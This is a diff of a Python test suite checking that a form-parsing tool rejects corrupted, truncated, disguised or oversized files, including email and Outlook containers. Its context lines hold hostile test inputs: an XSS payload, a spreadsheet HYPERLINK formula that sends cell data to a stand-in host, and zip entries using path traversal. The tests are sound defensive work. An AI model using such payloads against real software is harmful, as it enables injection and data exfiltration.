@@ -10,6 +10,7 @@ write: the store afterwards is unchanged, or holds the rejected document only, o
 
 from __future__ import annotations
 
+import datetime as dt
 import io
 import json
 import random
@@ -17,11 +18,13 @@ import shutil
 import zipfile
 from collections.abc import Callable
 from dataclasses import dataclass
+from email.message import EmailMessage
 from pathlib import Path
 
 import pytest
 
 from forms_factory import form_text, make_record
+from msg_factory import outlook_msg
 from retention_analytics.cli import main
 from retention_analytics.demo import render
 from retention_analytics.forms import FormReadError, parse_document, sources
@@ -37,6 +40,7 @@ FORM = form_text(make_record())
 WORKBOOK = render(make_record(), "xlsx")
 DOCUMENT = render(make_record(), "docx")
 PDF = render(make_record(), "pdf")
+DOC = (Path(__file__).parent / "fixtures" / "converted" / "f0.doc").read_bytes()
 ACCENTED = make_record(dentist_name="Clínica São João", city="João Monlevade", analyst="Conceição Araújo")
 HOSTILE_NOTE = '<img src=x onerror=alert(1)> =HYPERLINK("http://exemplo.invalid/?d="&A1,"clique")'
 
@@ -61,6 +65,20 @@ def _declare_size(data: bytes, size: int, only: str | None = None) -> bytes:
                 out[i + size_at:i + size_at + 4] = size.to_bytes(4, "little")
             i = out.find(signature, i + 4)
     return bytes(out)
+
+
+def _eml(attachments: dict[str, bytes]) -> bytes:
+    message = EmailMessage()
+    message["From"], message["Subject"], message["Date"] = "a@b.invalid", "Formulários", "Tue, 05 Mar 2024 09:41:07 -0300"
+    message.set_content("Seguem.")
+    for name, data in attachments.items():
+        message.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
+    return message.as_bytes()
+
+
+def _msg(attachments: dict[str, bytes]) -> bytes:
+    when = dt.datetime(2024, 3, 5, 12, 41, tzinfo=dt.timezone.utc)
+    return outlook_msg("Formulários", "Ana Teste", "a@b.invalid", when, attachments)
 
 
 def _blank_form() -> bytes:
@@ -100,6 +118,9 @@ CASES = [
     Bad("bytes_docx", "aleatorio.docx", lambda: RANDOM, refused="corrompido ou incompleto"),
     Bad("bytes_txt", "aleatorio.txt", lambda: RANDOM, refused="não é texto"),
     Bad("bytes_sem_extensao", "aleatorio", lambda: RANDOM, refused="Formato não suportado"),
+    Bad("bytes_xls", "aleatorio.xls", lambda: RANDOM, refused="corrompida ou não é uma planilha"),
+    Bad("bytes_ods", "aleatorio.ods", lambda: RANDOM, refused="corrompida ou não é uma planilha"),
+    Bad("ods_que_e_pdf", "disfarcado.ods", lambda: PDF, refused="corrompida ou não é uma planilha"),
     Bad("xlsx_cortado", "cortado.xlsx", lambda: WORKBOOK[: len(WORKBOOK) // 2], refused="corrompido"),
     Bad("docx_cortado", "cortado.docx", lambda: DOCUMENT[: len(DOCUMENT) // 2], refused="corrompido"),
     Bad("pdf_cortado", "cortado.pdf", lambda: PDF[: len(PDF) // 2], refused="corrompido"),
@@ -118,6 +139,20 @@ CASES = [
         lambda: _zip({"../../etc/passwd.txt": form_text(make_record(protocol_number="ZIP-1")).encode(),
                       "/abs/form.txt": form_text(make_record(protocol_number="ZIP-2")).encode()}),
         forms=2),
+    # With LibreOffice: it cannot open them; without: it is not installed. Both say "LibreOffice".
+    Bad("doc_cortado", "cortado.doc", lambda: DOC[: len(DOC) // 3], refused="LibreOffice"),
+    Bad("rtf_que_e_pdf", "disfarcado.rtf", lambda: PDF, refused="LibreOffice"),
+    Bad("bytes_png", "aleatorio.png", lambda: RANDOM, refused="corrompida ou não é uma imagem"),
+    Bad("jpg_que_e_pdf", "disfarcado.jpg", lambda: PDF, refused="corrompida ou não é uma imagem"),
+    Bad("eml_sem_formulario", "sem_anexo.eml", lambda: _eml({"foto.exe": b"MZ"}), refused="não tem formulário anexado"),
+    Bad("eml_texto_qualquer", "falso.eml", lambda: "Lista de compras: arroz".encode(), refused="não tem cabeçalhos de e-mail"),
+    Bad("eml_dois_formularios", "formularios.eml",
+        lambda: _eml({"a.txt": form_text(make_record(protocol_number="EML-1")).encode(),
+                      "b.xlsx": render(make_record(protocol_number="EML-2"), "xlsx")}), forms=2),
+    Bad("eml_anexo_corrompido", "anexo_ruim.eml", lambda: _eml({"ruim.xlsx": RANDOM}), refused="corrompido"),
+    Bad("msg_bytes", "aleatorio.msg", lambda: RANDOM, refused="não é uma mensagem do Outlook"),
+    Bad("msg_cortado", "cortado.msg", lambda: _msg({"a.txt": FORM.encode() * 3})[:2000], refused="ler o e-mail .msg"),
+    Bad("msg_formulario", "formulario.msg", lambda: _msg({"a.txt": form_text(make_record(protocol_number="MSG-1")).encode()})),
     Bad("grande_demais", "grande.txt", lambda: (FORM + "x" * (SIZE_LIMIT + 10)).encode(), refused="maior que o limite",
         small_limit=True),
     Bad("grande_demais_no_zip", "grande.zip", lambda: _zip({"grande.txt": (FORM + "x" * (SIZE_LIMIT + 10)).encode()}),
@@ -229,7 +264,7 @@ def test_parse(case, tmp_path, capsys, opened_members):
                 case.check(record)
     if case.bomb_member:
         assert case.bomb_member not in opened_members, "refused before inflating"
-    if not path.suffix == ".zip" and path.suffix:
+    if path.suffix not in (".zip", ".eml", ".msg") and path.suffix:  # containers: their members are parsed
         # The parser itself (no CLI): a FormReadError or a record, never anything else.
         try:
             parse_document(case.name, case.data())
